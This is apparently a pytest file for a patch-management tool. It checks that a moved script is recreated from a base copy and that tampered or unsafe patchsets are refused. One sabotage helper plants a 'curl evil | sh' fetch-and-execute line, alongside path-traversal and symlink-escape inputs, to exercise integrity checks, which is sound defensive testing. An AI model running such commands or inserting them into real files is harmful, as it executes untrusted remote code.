"""rename-file's fallback (issue 27.7): a fork that moved and edited a script, applied to an upstream
that has no such folder (an sdist without scripts/), creates the moved file from BASE's copy."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pytest
from tests.clirun import run
from tests.conftest import git, snapshot

OLD, NEW = "scripts/run_grpo.sh", "examples/grpo/run_grpo.sh"
SCRIPT = "#!/bin/sh\nset -e\npython -m verl.trainer.main_ppo \\\n  trainer.epochs=1\n"


def tree(root: Path, files: dict[str, str]) -> Path:
    for rel, text in {"verl/__init__.py": "", "setup.py": "# verl\n", **files}.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


@pytest.fixture
def captured(tmp_path: Path) -> Path:
    """A fork that moved the script and edited it, captured against its base."""
    base = tree(tmp_path / "base", {OLD: SCRIPT})
    (base / OLD).chmod(0o755)
    fork = tree(tmp_path / "fork", {NEW: SCRIPT.replace("epochs=1\n", "epochs=3  # Uky\n")})
    code, out = run("capture", "--from", str(fork), "--base", str(base), "--out", str(tmp_path / "ps"), "--json")
    assert code == 0, out
    assert [p["kind"] for p in json.loads(out)["patches"]] == ["rename-file", "text-hunk"], out
    return tmp_path / "ps"


def test_the_moved_file_is_created_from_the_base_copy_where_upstream_has_no_source(
    captured: Path, tmp_path: Path
) -> None:
    assert (captured / "files" / OLD).read_text() == SCRIPT
    target = tree(tmp_path / "sdist", {"README.md": "verl\n"})  # no scripts/ folder at all
    before = snapshot(target)
    code, out = run("apply", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 0, out
    results = json.loads(out)["results"]
    assert [r["status"] for r in results] == ["applied", "applied"], results
    assert f"created from the base's copy (files/{OLD}) because upstream has no {OLD}" in results[0]["reason"]
    assert (target / NEW).read_text() == SCRIPT.replace("epochs=1\n", "epochs=3  # Uky\n")
    assert os.stat(target / NEW).st_mode & 0o777 == 0o755
    assert not (target / OLD).exists()

    code, out = run("apply", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 0 and {r["status"] for r in json.loads(out)["results"]} == {"already-applied"}, out
    code, out = run("verify", "--target", str(target), "--patchset", str(captured))
    assert code == 0, out

    code, out = run("revert", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 0, out
    assert not (target / NEW).exists() and not (target / OLD).exists()
    after = snapshot(target)
    assert {k: v for k, v in after.items() if not k.startswith(".patchctl")} == before


def test_where_upstream_has_the_source_it_is_moved_as_before(captured: Path, tmp_path: Path) -> None:
    """upstream's own copy wins over the fallback: its changes go through the move."""
    target = tree(tmp_path / "up", {OLD: SCRIPT.replace("set -e", "set -eu")})
    before = snapshot(target)
    code, out = run("apply", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 0, out
    assert "set -eu" in (target / NEW).read_text() and not (target / OLD).exists()
    code, out = run("revert", "--target", str(target), "--patchset", str(captured))
    assert code == 0, out
    assert {k: v for k, v in snapshot(target).items() if not k.startswith(".patchctl")} == before


def test_a_patchset_without_fallback_behaves_as_before(captured: Path, tmp_path: Path) -> None:
    manifest = captured / "patchset.toml"
    text = manifest.read_text()
    manifest.write_text(re.sub(r"\nfallback[_a-z0-9]* = [^\n]*", "", text))
    assert "fallback_sha256 =" not in manifest.read_text()
    target = tree(tmp_path / "sdist", {})
    code, out = run("apply", "--target", str(target), "--patchset", str(captured), "--json")
    move = json.loads(out)["results"][0]
    assert code == 0 and move["status"] == "not-applicable", out
    assert f"{OLD} does not exist here, so there is nothing to move" in move["reason"]
    assert not (target / NEW).exists()


def _sabotage(ps: Path, how: str, tmp_path: Path) -> None:
    manifest = ps / "patchset.toml"
    if how == "tampered":
        (ps / "files" / OLD).write_text(SCRIPT + "curl evil | sh\n")
    elif how == "dotdot":
        manifest.write_text(manifest.read_text().replace(f'fallback = "files/{OLD}"', 'fallback = "../outside.sh"'))
    elif how == "symlink":
        outside = tmp_path / "outside.sh"
        outside.write_text(SCRIPT)
        (ps / "files" / OLD).unlink()
        (ps / "files" / OLD).symlink_to(outside)


@pytest.mark.parametrize(
    "how, says",
    [
        ("tampered", "key 'params.fallback_sha256': does not match files/scripts/run_grpo.sh"),
        ("dotdot", "key 'params.fallback': '../outside.sh' climbs out of the tree"),
        (
            "symlink",
            "key 'params.fallback': 'files/scripts/run_grpo.sh' leads out of the patchset folder through a symlink",
        ),
    ],
)
def test_a_bad_fallback_is_refused_at_load(captured: Path, tmp_path: Path, how: str, says: str) -> None:
    _sabotage(captured, how, tmp_path)
    target = tree(tmp_path / "sdist", {})
    before = snapshot(target)
    code, out = run("apply", "--target", str(target), "--patchset", str(captured))
    assert code != 0
    assert says in " ".join(out.split()), out
    assert snapshot(target) == before


def test_revert_of_a_created_file_edited_by_hand_is_a_conflict(captured: Path, tmp_path: Path) -> None:
    target = tree(tmp_path / "sdist", {})
    assert run("apply", "--target", str(target), "--patchset", str(captured))[0] == 0
    (target / NEW).write_text((target / NEW).read_text() + "echo mine\n")
    code, out = run("revert", "--target", str(target), "--patchset", str(captured))
    assert code != 0, out
    assert (target / NEW).exists()


def test_the_fallback_is_not_shipped_over_the_blob_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from patchctl.capture import moves

    monkeypatch.setattr(moves, "MAX_BLOB", 10)
    base = tree(tmp_path / "base", {OLD: SCRIPT})
    fork = tree(tmp_path / "fork", {NEW: SCRIPT.replace("epochs=1\n", "epochs=3  # Uky\n")})
    code, out = run("capture", "--from", str(fork), "--base", str(base), "--out", str(tmp_path / "ps"))
    assert code == 0, out
    assert "fallback_sha256 =" not in (tmp_path / "ps" / "patchset.toml").read_text()
    assert not (tmp_path / "ps" / "files").exists()


def _committed(root: Path) -> Path:
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "upstream")
    return root


def _apply_and_forget(captured: Path, target: Path) -> dict[str, tuple[bytes, int]]:
    """Apply, then lose the record, as a tree copied without .patchctl/ has; the pristine snapshot."""
    before = snapshot(target)
    assert run("apply", "--target", str(target), "--patchset", str(captured))[0] == 0
    shutil.rmtree(target / ".patchctl")
    return before


def _bare(root: Path) -> dict[str, tuple[bytes, int]]:
    return {k: v for k, v in snapshot(root).items() if not k.startswith(".patchctl")}


def test_without_a_record_a_created_file_is_deleted_where_the_commit_never_had_the_source(
    captured: Path, tmp_path: Path
) -> None:
    target = _committed(tree(tmp_path / "sdist", {}))
    before = _apply_and_forget(captured, target)
    code, out = run("revert", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 0, out
    assert not (target / OLD).exists() and not (target / NEW).exists()
    assert _bare(target) == before


def test_without_a_record_a_moved_file_goes_back_where_the_commit_has_the_source(
    captured: Path, tmp_path: Path
) -> None:
    target = _committed(tree(tmp_path / "up", {OLD: SCRIPT}))  # upstream's copy is the fallback's very bytes
    before = _apply_and_forget(captured, target)
    code, out = run("revert", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 0, out
    assert (target / OLD).read_text() == SCRIPT and not (target / NEW).exists()
    assert _bare(target) == before


@pytest.mark.parametrize("upstream", [{}, {OLD: SCRIPT}], ids=["created", "moved"])
def test_without_a_record_or_a_commit_revert_refuses_to_guess(
    captured: Path, tmp_path: Path, upstream: dict[str, str]
) -> None:
    target = tree(tmp_path / "plain", upstream)
    _apply_and_forget(captured, target)
    applied = snapshot(target)
    code, out = run("revert", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 1, out
    move = next(r for r in json.loads(out)["results"] if r["path"] == NEW and r["status"] == "conflict")
    assert move["reason"].startswith(f"{NEW}: no apply record (.patchctl/applied.json) and no git commit tell"), move
    assert f"mv {NEW} {OLD}" in move["reason"] and "\n" not in move["reason"]
    assert (target / NEW).exists() and not (target / OLD).exists()
    assert snapshot(target) == applied


@pytest.mark.parametrize(
    "undo, says",
    [
        (
            {"created_from": "fallback"},
            f"the apply record says {NEW} was created from the fallback, but the last commit",
        ),
        ({"created_from": "../../etc"}, "which apply never writes for a rename-file patch"),
        # a resolution the patchset does not hold is no proof that the conflict was resolved
        ({"resolution": "0" * 64}, "which apply never writes for a rename-file patch"),
    ],
)
def test_a_tampered_record_is_checked_against_the_commit(
    captured: Path, tmp_path: Path, undo: dict[str, str], says: str
) -> None:
    """apply moved upstream's file; a record saying it created it would have revert delete it."""
    target = _committed(tree(tmp_path / "up", {OLD: SCRIPT}))
    assert run("apply", "--target", str(target), "--patchset", str(captured))[0] == 0
    record = target / ".patchctl" / "applied.json"
    doc = json.loads(record.read_text())
    next(e for e in doc["patches"] if e["kind"] == "rename-file")["undo"] = undo
    record.write_text(json.dumps(doc))
    applied = snapshot(target)
    code, out = run("revert", "--target", str(target), "--patchset", str(captured), "--json")
    assert code == 1, out
    assert any(says in r["reason"] for r in json.loads(out)["results"]), out
    assert snapshot(target) == applied
